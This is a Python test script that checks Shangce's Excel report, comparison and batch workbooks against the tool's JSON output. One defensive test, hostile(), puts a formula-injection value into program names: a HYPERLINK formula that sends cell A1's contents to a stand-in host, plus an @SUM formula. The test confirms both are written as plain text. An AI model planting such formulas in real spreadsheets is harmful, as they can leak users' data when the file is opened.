#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Reads Shangce's workbooks with a real reader (openpyxl).

  check-xlsx.py SHANGCE PROFILE...

`--report --format xlsx`, for every profile in English and Chinese: the
workbook opens, has its four sheets, the Summary totals are the JSON
report's, amounts are number cells in yuan, dates are dates, header rows
are frozen, Chinese reports have Chinese headers, text that looks like a
formula stays text, and the Summary sheet has two native charts: kept vs
tied, and amount by amount (whose series add up to each platform's total).
The Summary states the verdict in words, whether it is robust, the
assumptions that change the winner with where (numbers, dates as dates)
and the monthly GMV where the leader changes, and the Assumptions sheet
gives low and high as numbers: all checked against the JSON report's
"verdict", "ranges" and "gmv_crossovers".

`--compare A B --format xlsx` (the first two profiles) and `--batch
--format xlsx` (every profile and a broken one) are checked against
`--format json` of the same run, cell by cell. TAP output; skips without
openpyxl.
"""

import datetime
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import zipfile

try:
    import openpyxl
except ImportError:
    print('1..0 # SKIP python3-openpyxl is not installed')
    sys.exit(0)

SHEETS = {'en': ['Summary', 'Measures', 'Assumptions', 'Sources'],
          'zh_CN': ['概要', '举措', '假设', '来源']}
n = 0
failed = 0


def ok(cond, what):
    global n, failed
    n += 1
    print(('ok' if cond else 'not ok') + ' %d - %s' % (n, what))
    if not cond:
        failed += 1


def has_han(text):
    return any('\u4e00' <= ch <= '\u9fff' for ch in str(text or ''))


def run(args):
    return subprocess.run(args, capture_output=True)


def check(shangce, profile, lang, tmp):
    name = '%s [%s]' % (os.path.basename(profile), lang)
    out = os.path.join(tmp, os.path.basename(profile) + '-' + lang + '.xlsx')
    r = run([shangce, '--report', '--format', 'xlsx', '-o', out, '--profile', profile, '--lang', lang])
    ok(r.returncode == 0 and os.path.exists(out), name + ': written (%s)' % r.stderr.decode()[:200])
    if r.returncode != 0:
        return
    ok(os.stat(out).st_mode & 0o077 == 0, name + ': private (0600)')
    report = json.loads(run([shangce, '--report', '--format', 'json', '--profile', profile,
                             '--lang', lang]).stdout)
    with zipfile.ZipFile(out) as z:
        names = z.namelist()
        ok('xl/charts/chart1.xml' in names, name + ': the workbook holds a native chart')
        chart = z.read('xl/charts/chart1.xml').decode() if 'xl/charts/chart1.xml' in names else ''
        ok('<c:barChart>' in chart and 'stacked' in chart, name + ': a stacked column chart')
        breakdown = z.read('xl/charts/chart2.xml').decode() if 'xl/charts/chart2.xml' in names else ''
        ok('<c:barChart>' in breakdown and 'stacked' in breakdown, name + ': a second stacked chart, amount by amount')
    wb = openpyxl.load_workbook(out)
    ok(wb.sheetnames == SHEETS[lang], name + ': sheets %s' % wb.sheetnames)
    summary = wb[wb.sheetnames[0]]
    ok(len(summary._charts) > 0, name + ': the Summary sheet has a chart')
    # The header row of the platform table: the row whose first cell names
    # the platform column.
    head = None
    for row in summary.iter_rows(min_row=1, max_row=40):
        if row[0].value in ('Platform', '平台'):
            head = row[0].row
            break
    ok(head is not None, name + ': Summary has a platform table')
    if head is None:
        return
    ok(summary.freeze_panes == 'A%d' % (head + 1), name + ': Summary header frozen (%s)' % summary.freeze_panes)
    heads = [c.value for c in summary[head]]
    if lang == 'zh_CN':
        ok(all(has_han(h) for h in heads if h), name + ': Chinese headers %s' % heads[:5])
    else:
        ok(not any(has_han(h) for h in heads if h), name + ': English headers')
    dates = [c for row in summary.iter_rows(min_row=1, max_row=head - 1) for c in row
             if isinstance(c.value, datetime.datetime)]
    ok(len(dates) >= 2 and dates[0].value.date().isoformat() == report['profile']['as_of'],
       name + ': evaluation date is a date cell')
    platforms = report['platforms']
    rows = list(summary.iter_rows(min_row=head + 1, max_row=head + len(platforms)))
    ok([r[0].value for r in rows] == [p['name'] for p in platforms], name + ': one row per platform')
    good = True
    for r, p in zip(rows, platforms):
        t = p['totals']
        kept = t['fee-reduction'] + t['cash'] + t['cash-flow']
        tied = t['ad-credit'] + t['coupon'] + t['traffic-value']
        for cell, want in ((r[1], t['total-value']), (r[2], kept), (r[3], tied), (r[4], p['score']),
                           (r[5], p['expected_totals']['total-value'])):
            if not isinstance(cell.value, (int, float)) or abs(cell.value - want) > 0.011:
                print('# %s %s: %r != %r' % (p['platform'], cell.coordinate, cell.value, want))
                good = False
            if '¥' not in cell.number_format or '0.00' not in cell.number_format:
                print('# %s: number format %r' % (cell.coordinate, cell.number_format))
                good = False
    ok(good, name + ': Summary totals equal the JSON report, as yuan numbers')
    ok(len(summary._charts) == 2, name + ': the Summary sheet has two charts (%d)' % len(summary._charts))
    # The breakdown chart: one series per amount kept or tied, each a
    # column of the platform rows, adding up to each platform's total.
    series = series_columns(breakdown)
    labels = [summary.cell(row=head, column=openpyxl.utils.column_index_from_string(col)).value
              for col, _, _ in series]
    ok(len(series) == 6 and all(first == head + 1 and last == head + len(platforms) for _, first, last in series),
       name + ': six series over the platform rows %s' % labels)
    good = True
    for r, p in zip(rows, platforms):
        got = sum(summary['%s%d' % (col, r[0].row)].value or 0 for col, _, _ in series)
        if abs(got - p['totals']['total-value']) > 0.05:
            print('# %s: the breakdown adds to %r, not %r' % (p['platform'], got, p['totals']['total-value']))
            good = False
    ok(good, name + ': the breakdown series add up to each platform total')
    for title in wb.sheetnames[1:]:
        ws = wb[title]
        ok(ws.freeze_panes == 'A2', name + ': %s header frozen' % title)
        first = [c.value for c in ws[1] if c.value]
        ok(first and all(has_han(h) for h in first) == (lang == 'zh_CN'), name + ': %s headers %s' % (title, first[:3]))
    measures = wb[wb.sheetnames[1]]
    ok(measures.max_row - 1 == len(report['measures']), name + ': one row per measure')
    numbers = [c for row in measures.iter_rows(min_row=2) for c in row[4:13] if c.value is not None]
    ok(numbers and all(isinstance(c.value, (int, float)) for c in numbers), name + ': measure amounts are numbers')
    assumptions = wb[wb.sheetnames[2]]
    ok(assumptions.max_row - 1 == len(report['assumptions']), name + ': one row per assumption')
    formulas = [c.coordinate for ws in wb for row in ws.iter_rows() for c in row
                if c.data_type == 'f']
    ok(not formulas, name + ': no formula in any cell %s' % formulas[:3])
    widths = [d.width for d in summary.column_dimensions.values() if d.width]
    ok(widths, name + ': column widths set')
    how_sure(summary, assumptions, report, head, lang, name)


def driver_value(d, key):
    """A driver's value as the workbook gives it: dates as the last day counted."""
    v = d[key]
    if d['is_date'] and v is not None:
        return datetime.datetime.fromisoformat(v) - datetime.timedelta(days=1)
    return v


def same_value(cell, want):
    if isinstance(want, datetime.datetime):
        return isinstance(cell.value, datetime.datetime) and cell.value == want
    return isinstance(cell.value, (int, float)) and abs(cell.value - want) <= 1e-9 * max(1, abs(want))


def how_sure(summary, assumptions, report, head, lang, name):
    """Issue 13 in the workbook: the verdict in words, robust or not, the
    assumptions that change the winner with where (numbers), the monthly
    GMV where the leader changes (a number), and the assumptions' ranges."""
    ranges = report['ranges']
    top = {row[0].value: row for row in summary.iter_rows(min_row=1, max_row=head - 1)}
    words = top.get('Verdict' if lang == 'en' else '结论')
    ok(words is not None and words[1].value == report['verdict']['words'], name + ': the verdict in words')
    robust = top.get('Robust' if lang == 'en' else '稳健')
    want = {True: {'en': 'Yes', 'zh_CN': '是'}, False: {'en': 'No', 'zh_CN': '否'}}[ranges['robust']][lang]
    ok(robust is not None and robust[1].value == want, name + ': robust %r, as the JSON says' % ranges['robust'])
    flips = [d for d in ranges['drivers'] if d['flips']]
    flip_head = ('Assumption that can change the winner', '可能改变胜出者的假设')
    start = next((row[0].row for row in summary.iter_rows(min_row=1, max_row=head - 1)
                  if row[0].value in flip_head), None)
    if not flips:
        ok(start is None, name + ': no assumption changes the winner, none listed')
    else:
        rows = list(summary.iter_rows(min_row=start + 1, max_row=start + len(flips))) if start else []
        good = len(rows) == len(flips)
        for r, d in zip(rows, flips):
            for cell, key in ((r[1], 'central'), (r[2], 'flip_value'), (r[3], 'low'), (r[4], 'high')):
                if r[0].value != d['label'] or not same_value(cell, driver_value(d, key)):
                    print('# %s %s: %r != %r' % (d['key'], key, cell.value, driver_value(d, key)))
                    good = False
        ok(good, name + ': %d assumptions that change the winner, with where, as numbers' % len(flips))
    crossovers = (report['gmv_crossovers'] or {}).get('crossovers', [])
    gmv_head = ('Monthly GMV where the leader changes', '领先平台改变时的月 GMV')
    start = next((row[0].row for row in summary.iter_rows(min_row=1, max_row=head - 1)
                  if row[0].value in gmv_head), None)
    ok(start is not None, name + ': the monthly GMV where the leader changes is stated')
    if start is not None and crossovers:
        cells = [summary.cell(row=start + 1 + k, column=1) for k in range(len(crossovers))]
        ok(all(is_yuan(c, x['monthly_gmv']) for c, x in zip(cells, crossovers)),
           name + ': crossover GMV %s as yuan numbers' % [x['monthly_gmv'] for x in crossovers])
    # Assumptions: Low and High as numbers where the range analysis has them.
    notes = [row[4].value for row in assumptions.iter_rows(min_row=2)]
    good, found = True, 0
    for d in ranges['drivers']:
        if notes.count(d['note']) != 1:
            continue
        row = assumptions[notes.index(d['note']) + 2]
        found += 1
        if not same_value(row[2], driver_value(d, 'low')) or not same_value(row[3], driver_value(d, 'high')):
            print('# %s: low %r high %r' % (d['key'], row[2].value, row[3].value))
            good = False
    ok(good and found > 0, name + ': %d assumptions with their low and high, as numbers' % found)


def series_columns(chart_xml):
    """(column, first row, last row) of each series' values in a chart."""
    return [(m.group(1), int(m.group(2)), int(m.group(3)))
            for m in re.finditer(r'<c:val><c:numRef><c:f>[^!]*!\$([A-Z]+)\$(\d+):\$[A-Z]+\$(\d+)</c:f>', chart_xml)]


def common(path, wb, name):
    """What every workbook owes: private, no formula anywhere."""
    ok(os.stat(path).st_mode & 0o077 == 0, name + ': private (0600)')
    formulas = [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == 'f']
    ok(not formulas, name + ': no formula in any cell %s' % formulas[:3])


def is_yuan(cell, want):
    return (isinstance(cell.value, (int, float)) and abs(cell.value - want) <= 0.011
            and '¥' in cell.number_format and '0.00' in cell.number_format)


def compare(shangce, a, b, lang, tmp):
    name = 'compare [%s]' % lang
    out = os.path.join(tmp, 'compare-%s.xlsx' % lang)
    r = run([shangce, '--compare', a, b, '--format', 'xlsx', '-o', out, '--lang', lang])
    ok(r.returncode == 0 and os.path.exists(out), name + ': written (%s)' % r.stderr.decode()[:200])
    if r.returncode != 0:
        return
    report = json.loads(run([shangce, '--compare', a, b, '--format', 'json', '--lang', lang]).stdout)
    wb = openpyxl.load_workbook(out)
    common(out, wb, name)
    want = {'en': ['Scenarios', 'Changed measures'], 'zh_CN': ['情景', '状态变化的举措']}[lang]
    ok(wb.sheetnames == want, name + ': sheets %s' % wb.sheetnames)
    ws = wb[wb.sheetnames[0]]
    head = next((row[0].row for row in ws.iter_rows(min_row=1, max_row=20) if row[0].value in ('Platform', '平台')), None)
    ok(head is not None and ws.freeze_panes == 'A%d' % (head + 1), name + ': a platform table, header frozen')
    if head is None:
        return
    heads = [c.value for c in ws[head] if c.value]
    ok(len(heads) == 13 and all(has_han(h) for h in heads) == (lang == 'zh_CN'), name + ': headers %s' % heads[:3])
    # The two scenarios: names and evaluation dates as dates.
    scen = [(ws.cell(row=r, column=2).value, ws.cell(row=r, column=3).value) for r in (3, 4)]
    ok([n for n, _ in scen] == [s['name'] for s in report['scenarios']]
       and all(isinstance(d, datetime.datetime) for _, d in scen)
       and [d.date().isoformat() for _, d in scen] == [s['as-of'] for s in report['scenarios']],
       name + ': both scenarios named, with their dates')
    platforms = report['platforms']
    rows = list(ws.iter_rows(min_row=head + 1, max_row=head + len(platforms)))
    ok([r[0].value for r in rows] == [p['name'] for p in platforms], name + ': one row per platform')
    good = True
    for r, p in zip(rows, platforms):
        col = 1
        for key in ('total-value', 'kept', 'tied', 'expected'):
            for part in ('a', 'b', 'difference'):
                if not is_yuan(r[col], p[key][part]):
                    print('# %s %s %s: %r (%r) != %r' % (p['id'], key, part, r[col].value, r[col].number_format,
                                                         p[key][part]))
                    good = False
                col += 1
    ok(good, name + ': A, B and B − A of every amount equal the JSON, as yuan numbers')
    changes = wb[wb.sheetnames[1]]
    ok(changes.freeze_panes == 'A2' and changes.max_row - 1 == len(report['changes']),
       name + ': one row per changed measure (%d)' % len(report['changes']))
    ok([c.value for c in changes[2]][2:3] == [report['changes'][0]['measure-name']] if report['changes'] else True,
       name + ': changed measures named as in the JSON')
    with zipfile.ZipFile(out) as z:
        chart = z.read('xl/charts/chart1.xml').decode() if 'xl/charts/chart1.xml' in z.namelist() else ''
    ok(len(ws._charts) == 1 and 'clustered' in chart and len(series_columns(chart)) == 2,
       name + ': a native chart of the two scenarios')


def batch(shangce, profiles, tmp):
    src = os.path.join(tmp, 'batch-in')
    os.makedirs(src)
    for p in profiles:
        shutil.copy(p, src)
    with open(os.path.join(src, 'broken.shangce'), 'w', encoding='utf-8') as f:
        f.write('<?xml version="1.0" encoding="UTF-8"?>\n'
                '<profile xmlns="https://shangce.github.io/ns/profile/1" format="1" as-of="2026-01-01">\n'
                '  <set field="monthly-gmv" value="lots"/>\n</profile>\n')
    for lang in ('en', 'zh_CN'):
        name = 'batch [%s]' % lang
        out = os.path.join(tmp, 'batch-xlsx-' + lang)
        out_json = os.path.join(tmp, 'batch-json-' + lang)
        r = run([shangce, '--batch-dir', src, '--out', out, '--format', 'xlsx', '--lang', lang, '--jobs', '2'])
        ok(r.returncode == 1 and b'broken.shangce:3:' in r.stderr, name + ': the broken profile fails the run (status %d)'
           % r.returncode)
        run([shangce, '--batch-dir', src, '--out', out_json, '--format', 'json', '--lang', lang])
        path = os.path.join(out, 'summary.xlsx')
        if not os.path.exists(path):
            ok(False, name + ': summary.xlsx written')
            continue
        report = json.load(open(os.path.join(out_json, 'summary.json'), encoding='utf-8'))
        ok(all(os.path.exists(os.path.join(out, os.path.basename(p)[:-len('.shangce')] + '.xlsx')) for p in profiles),
           name + ': a workbook per client')
        wb = openpyxl.load_workbook(path)
        common(path, wb, name)
        ws = wb[wb.sheetnames[0]]
        head = next((row[0].row for row in ws.iter_rows(min_row=1, max_row=10) if row[0].value in ('Client', '客户')), None)
        ok(head is not None and ws.freeze_panes == 'A%d' % (head + 1), name + ': a client table, header frozen')
        if head is None:
            continue
        heads = [c.value for c in ws[head]]
        ok(all(has_han(h) for h in heads if h) == (lang == 'zh_CN'), name + ': headers %s' % heads[:4])
        clients = report['clients']
        rows = list(ws.iter_rows(min_row=head + 1, max_row=head + len(clients)))
        ok(ws.max_row == head + len(clients) and [r[0].value for r in rows] == [c['client'] for c in clients],
           name + ': one row per client, in the JSON order')
        good = True
        for r, c in zip(rows, clients):
            if (r[2].value in ('Failed', '失败')) != (c['error'] is not None):
                print('# %s: status %r, error %r' % (c['file'], r[2].value, c['error']))
                good = False
            if c['error'] is not None:
                continue
            col = 4
            for p in c['platforms']:
                for key in ('total', 'kept', 'tied'):
                    if not is_yuan(r[col], p[key]):
                        print('# %s %s %s: %r != %r' % (c['file'], p['id'], key, r[col].value, p[key]))
                        good = False
                    col += 1
            # The verdict names the platform worth most.
            lead = max(c['platforms'], key=lambda p: p['total'])
            if c['leading-platform'] != lead['id'] or not r[3].value:
                good = False
            # Then the evaluation date, horizon and the assumptions.
            if not isinstance(r[col].value, datetime.datetime) or r[col + 2].value != c['assumptions']:
                print('# %s: date %r, assumptions %r' % (c['file'], r[col].value, r[col + 2].value))
                good = False
            if len((r[col + 3].value or '').split('\n')) != c['assumptions']:
                good = False
            # How sure: robust or not, and one line per assumption that flips it.
            yes_no = {True: ('Yes', '是'), False: ('No', '否')}[c['robust']][lang != 'en']
            flips = [line for line in (r[col + 5].value or '').split('\n') if line]
            if r[col + 4].value != yes_no or len(flips) != len(c['flipped-by']):
                print('# %s: robust %r, %d flips, want %r, %r' % (c['file'], r[col + 4].value, len(flips),
                                                                   yes_no, c['flipped-by']))
                good = False
        ok(good, name + ': status, totals, kept and tied per platform, verdict, assumptions and robustness equal the JSON')
        ok(any(not c['robust'] and c['flipped-by'] for c in clients if c['error'] is None),
           name + ': a client whose verdict is not robust, with the assumptions that flip it')


def hostile(shangce, profile, tmp):
    """Names that a spreadsheet would run as formulas stay text."""
    here = os.path.dirname(os.path.abspath(__file__))
    with open(os.path.join(here, '..', 'data', 'engine', 'engine-basic.xml'), encoding='utf-8') as f:
        xml = f.read()
    xml = xml.replace('Alpha test program', '=HYPERLINK(&quot;http://x.example/&quot;&amp;A1,&quot;x&quot;)', 1)
    xml = xml.replace('First-sale cash', '@SUM(A1:A9)', 1)
    programs = os.path.join(tmp, 'hostile.xml')
    with open(programs, 'w', encoding='utf-8') as f:
        f.write(xml)
    out = os.path.join(tmp, 'hostile.xlsx')
    r = run([shangce, '--report', '--format', 'xlsx', '-o', out, '--profile', profile,
             '--programs', programs, '--lang', 'en'])
    ok(r.returncode == 0, 'hostile names: written (%s)' % r.stderr.decode()[:200])
    if r.returncode != 0:
        return
    wb = openpyxl.load_workbook(out)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and ('HYPERLINK' in c.value or '@SUM' in c.value)]
    ok(any('HYPERLINK' in c.value for c in cells) and any('@SUM' in c.value for c in cells),
       'hostile names: both reach the workbook')
    ok(cells and all(c.data_type == 's' for c in cells), 'hostile names: written as text, never a formula')


def main():
    shangce = sys.argv[1]
    with tempfile.TemporaryDirectory() as tmp:
        # Binary to a terminal or a pipe is refused.
        r = run([shangce, '--report', '--format', 'xlsx', '--profile', sys.argv[2]])
        ok(r.returncode == 2 and r.stdout == b'', 'xlsx without -o is refused with status 2')
        # Nor to a terminal named by -o.
        master, slave = os.openpty()
        r = run([shangce, '--report', '--format', 'xlsx', '-o', os.ttyname(slave), '--profile', sys.argv[2]])
        os.set_blocking(master, False)
        try:
            written = os.read(master, 4096)
        except BlockingIOError:
            written = b''
        os.close(master)
        os.close(slave)
        ok(r.returncode == 2 and written == b'', 'xlsx to a terminal is refused with status 2')
        for profile in sys.argv[2:]:
            for lang in ('en', 'zh_CN'):
                check(shangce, profile, lang, tmp)
        hostile(shangce, sys.argv[2], tmp)
        for lang in ('en', 'zh_CN'):
            compare(shangce, sys.argv[2], sys.argv[-1], lang, tmp)
        batch(shangce, sys.argv[2:], tmp)
    print('1..%d' % n)
    sys.exit(1 if failed else 0)


main()
